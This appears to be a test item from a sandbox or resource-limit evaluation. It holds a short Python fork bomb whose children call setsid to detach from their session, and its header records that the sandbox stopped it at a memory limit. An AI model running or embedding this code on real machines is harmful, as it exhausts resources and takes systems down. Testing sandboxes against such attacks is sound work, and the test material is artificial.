# tries:    a fork bomb whose processes leave their session and never end
# attack:   forks and threads; endless loop
# course:   judged
# vanilla:  untried
# verdict:  memory limit
# score:    10
# reason:   the memory limit was reached
# %% scale
import os

while True:
    try:
        if os.fork() == 0:
            os.setsid()
    except OSError:
        pass
